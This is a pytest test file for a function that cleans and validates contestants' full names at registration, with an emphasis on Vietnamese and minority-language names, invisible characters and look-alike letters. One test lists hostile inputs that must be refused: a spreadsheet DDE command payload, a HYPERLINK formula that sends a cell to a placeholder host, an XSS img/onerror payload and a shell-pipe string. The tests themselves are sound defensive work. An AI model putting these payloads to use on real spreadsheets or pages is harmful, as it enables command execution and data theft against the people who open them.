"""names: what people type as their full name, cleaned (NFC, trimmed, single-spaced) and bounded."""

from __future__ import annotations

import unicodedata

import pytest

from contest.rules.errors import InvalidName
from contest.rules.names import clean_name


def test_nfd_input_becomes_nfc() -> None:
    # Given a name typed in decomposed form (macOS keyboards, some IMEs)
    nfd = unicodedata.normalize("NFD", "Nguyễn Thị Ánh")
    assert nfd != "Nguyễn Thị Ánh"
    # When it is cleaned
    cleaned = clean_name(nfd)
    # Then it is stored composed
    assert cleaned == "Nguyễn Thị Ánh"
    assert unicodedata.is_normalized("NFC", cleaned)


def test_trims_and_collapses_spaces() -> None:
    # Given a name with stray spaces
    # When it is cleaned
    cleaned = clean_name("   Trần    Văn \u00a0 Bình  ")
    # Then it is trimmed, with single spaces between words
    assert cleaned == "Trần Văn Bình"


@pytest.mark.parametrize(("raw", "ok"), [("A", False), ("An", True), ("a" * 100, True), ("a" * 101, False)])
def test_length_bounds_two_to_hundred(raw: str, ok: bool) -> None:
    # Given a name at or just past a length bound
    # When it is cleaned
    # Then 2..100 characters are accepted, anything else refused
    if ok:
        assert clean_name(raw) == raw
    else:
        with pytest.raises(InvalidName):
            clean_name(raw)


def test_length_is_counted_after_trimming() -> None:
    # Given a one-letter name padded with spaces
    # When / Then it is refused (spaces do not count)
    with pytest.raises(InvalidName):
        clean_name("   B   ")


@pytest.mark.parametrize(
    "raw",
    [
        "Nguyễn\x00Văn An",
        "Nguyễn \x1b[31mVăn An",
        "Nguyễn Văn\nAn",
        "Nguyễn Văn An\u202e",  # right-to-left override
        "Nguyễn\u200bVăn An",  # zero-width space
        "\ufeffNguyễn Văn An",  # byte order mark
        "Nguyễn\u2028Văn An",  # line separator
        "12345",  # no letters
        "!!! ???",
        "   ",
        "",
        None,
        42,
    ],
)
def test_control_invisible_and_letterless_names_are_refused(raw: object) -> None:
    # Given a name holding control/invisible characters, or no letters at all
    # When / Then it is refused
    with pytest.raises(InvalidName):
        clean_name(raw)


@pytest.mark.parametrize(
    "name",
    [
        "Trần Lê Ánh Phạm Thủy Nguyễn Đức",  # huyền, sắc, nặng, hỏi, ngã, and đ
        "Hoàng Bá Thảo Vũ Mạnh Đặng Ơn Ư",
    ],
)
def test_ordinary_text_is_accepted_unchanged(name: str) -> None:
    # Given a name made of ordinary printable characters (markup included)
    # When it is cleaned
    # Then it comes back exactly as typed
    assert clean_name(name) == name


def test_refusal_message_is_vietnamese() -> None:
    # Given / When a control character is typed
    with pytest.raises(InvalidName) as caught:
        clean_name("An\x00")
    # Then the contestant reads why, in Vietnamese
    assert caught.value.code == "INVALID_NAME"
    assert "ký tự" in caught.value.message


# --- markup and formula syntax, invisible and look-alike names ------------------------

ALL_TONED_VOWELS = "aàáảãạăằắẳẵặâầấẩẫậeèéẻẽẹêềếểễệiìíỉĩịoòóỏõọôồốổỗộơờớởỡợuùúủũụưừứửữựyỳýỷỹỵ"

REAL_NAMES = [
    "Nguyễn Văn An",
    "Trần Thị Ánh Tuyết",
    "Lê Hoàng Bảo Châu",
    "Phạm Đức Đạt",
    "Đặng Thị Đoan Trang",
    "Võ Nguyên Giáp",
    "Ông Ích Khiêm",
    "Ưng Hoàng Phúc",
    "Âu Dương Phong",
    "Hồ Thị Kỷ",
    "Ngô Thị Ngọc Hân",
    "Huỳnh Tấn Phát",
    "Giàng A Páo",  # H'Mông
    "Sùng Thị Chớ",
    "Lò Văn Giàng",  # Thái
    "Hà Thị Ðiệp".replace("Ð", "Đ"),
    "Vi Thị Ngát",  # Tày
    "Ksor Y Phun",  # Gia Rai
    "Y-Moan Êban",  # Ê Đê, with a hyphen
    "H'Hen Niê",  # Ê Đê, with an apostrophe
    "K'Điệp",  # Cơ Ho
    "Ka Sô Liễng",
    "Rơ Mah Hơ̆",  # a breve over ơ: one mark left after NFC
    "H\u2019Linh Niê",  # typographic apostrophe
    "Bh\u02bcriu Pơloong",  # modifier letter apostrophe (Cơ Tu)
    "Hồ Xuân Hương",
    "Nguyễn Thị Minh Khai",
    "Nguyễn V. A.",
    "Trần-Lê Minh Quân",
    "Nguyễn Văn An 2",
    "Mạc Đĩnh Chi",
    ALL_TONED_VOWELS[:60],
    ALL_TONED_VOWELS.upper()[:60],
    "Đinh Bộ Lĩnh",
]


@pytest.mark.parametrize("name", REAL_NAMES)
@pytest.mark.parametrize("form", ["NFC", "NFD"])
def test_real_vietnamese_names_keep_working_typed_composed_or_decomposed(name: str, form: str) -> None:
    # Given a real name (every tone mark, Đ/đ, minority names with hyphens and apostrophes), NFC or NFD
    typed = unicodedata.normalize(form, name)
    # When it is cleaned
    # Then it is accepted, stored composed and otherwise unchanged
    assert clean_name(typed) == unicodedata.normalize("NFC", name)


def test_every_vietnamese_letter_with_every_tone_mark_is_accepted() -> None:
    # Given every vowel with every tone, in both cases, and đ/Đ
    letters = ALL_TONED_VOWELS + ALL_TONED_VOWELS.upper() + "đĐ"
    # When / Then each, as a name with a letter before it, is accepted
    for ch in letters:
        assert clean_name("Đ" + ch) == "Đ" + ch, ch


@pytest.mark.parametrize(
    "raw",
    [
        '=HYPERLINK("http://x"&D2,"x")',
        "=1+1",
        "+84 912 345 678",
        "-2+3 An",
        "@SUM(A1)",
        "'=cmd|' /C calc'!A0",
        "Nguyễn=HYPERLINK(1)",
        'Lê HYPERLINK("http://x")',
        "<img src=x onerror=alert(1)>",
        "Lê <b>Văn</b> An",
        "An <script>",
        "Trần & Lê",
        'Nguyễn "An"',
        "Lê Văn An; =1+1",
        "Lê | cmd",
        "Nguyễn {An}",
        "Nguyễn Văn An 😀",
        "Nguyễn ＝An",  # full-width equals sign
        "123 Nguyễn",
    ],
)
def test_markup_and_formula_syntax_is_refused_with_a_vietnamese_message(raw: str) -> None:
    # Given a "name" made of markup or spreadsheet formula syntax
    # When / Then registration refuses it, saying in Vietnamese what a name may hold
    with pytest.raises(InvalidName) as caught:
        clean_name(raw)
    assert caught.value.code == "INVALID_NAME"
    assert "Họ và tên" in caught.value.message and (
        "ký hiệu" in caught.value.message or "chữ cái" in caught.value.message
    )


@pytest.mark.parametrize(
    "raw",
    [
        "\u3164\u3164",  # Hangul filler
        "Nguyễn\u3164An",
        "\u115f\u1160 An",  # Hangul choseong / jungseong fillers
        "An\uffa0Bình",  # half-width Hangul filler
        "\u2800\u2800\u2800",  # Braille blank
        "Nguyễn\u2800Văn An",
        "An\u034fBình",  # combining grapheme joiner
        "An\ufe0f Bình",  # variation selector
        "An\u00ad Bình",  # soft hyphen
        "An\U000e0041 Bình",  # tag character
    ],
)
def test_invisible_names_are_refused(raw: str) -> None:
    # Given a name that is (partly) drawn as nothing
    # When / Then it is refused
    with pytest.raises(InvalidName) as caught:
        clean_name(raw)
    assert caught.value.code == "INVALID_NAME"


@pytest.mark.parametrize("raw", ["A" + "\u0301" * 4, "Nguyễn Ạ" + "\u0300\u0301\u0303" * 20, "An \u0301Bình"])
def test_combining_mark_floods_are_refused(raw: str) -> None:
    # Given a letter buried under marks (or a mark on nothing)
    # When / Then it is refused
    with pytest.raises(InvalidName) as caught:
        clean_name(raw)
    assert "dấu" in caught.value.message


@pytest.mark.parametrize(
    ("raw", "twin"),
    [
        ("Nguyễn Văn \u0410n", "A"),  # Cyrillic А
        ("Nguy\u0435̃n Văn An", "e"),  # Cyrillic е under a tilde
        ("Tr\u0430n Thị Bình", "a"),  # Cyrillic а
        ("\u041dồ Chí Minh", "H"),  # Cyrillic Н
        ("Ng\u03bf Bảo Châu", "o"),  # Greek ο
        ("\u0391lpha Nguyễn", "A"),  # Greek Α
        ("\u0412\u0430\u043e", "B"),  # whole-script Cyrillic that reads "Bao"
    ],
)
def test_lookalike_letters_of_other_scripts_are_refused(raw: str, twin: str) -> None:
    # Given a name with a Cyrillic/Greek letter that looks like a Latin (Vietnamese) one
    # When / Then it is refused, naming the look-alike
    with pytest.raises(InvalidName) as caught:
        clean_name(raw)
    assert caught.value.code == "INVALID_NAME"
    assert f"“{twin}”" in caught.value.message


def test_a_name_mixing_scripts_is_refused_but_one_script_is_not() -> None:
    # Given a name in one non-Latin script and one mixing it with Latin
    # When / Then the first is accepted and the mixed one refused
    assert clean_name("王小明") == "王小明"
    with pytest.raises(InvalidName):
        clean_name("Nguyễn 王")


def test_ordinary_names_never_load_the_confusables_data() -> None:
    # Given a fresh interpreter (the register handler's cold path)
    import subprocess
    import sys

    code = (
        "import sys; from contest.rules.names import clean_name; "
        "clean_name('Nguyễn Thị Ánh Tuyết'); clean_name(\"K'Điệp Niê\"); "
        "print('confusable_homoglyphs' in sys.modules)"
    )
    # When an ordinary Vietnamese name is cleaned
    out = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, check=True).stdout
    # Then the confusables library (1 MB of JSON) was not imported
    assert out.strip() == "False"
